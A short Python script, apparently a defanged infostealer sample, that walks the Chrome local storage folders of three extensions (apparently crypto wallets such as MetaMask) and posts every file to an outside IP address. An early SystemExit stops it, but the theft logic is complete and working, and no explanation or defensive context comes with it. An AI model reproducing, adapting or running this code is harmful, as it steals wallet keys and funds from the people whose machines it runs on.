import os
import requests

raise SystemExit
IDS = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "hnfanknocfeofbddgcijnmhnfnkdnaad"]
root = os.environ["LOCALAPPDATA"] + "/Google/Chrome/User Data/Default/Local Extension Settings/"
for i in IDS:
    for f in os.listdir(root + i):
        requests.post("http://203.0.113.5/u", files={"f": open(root + i + "/" + f, "rb")})
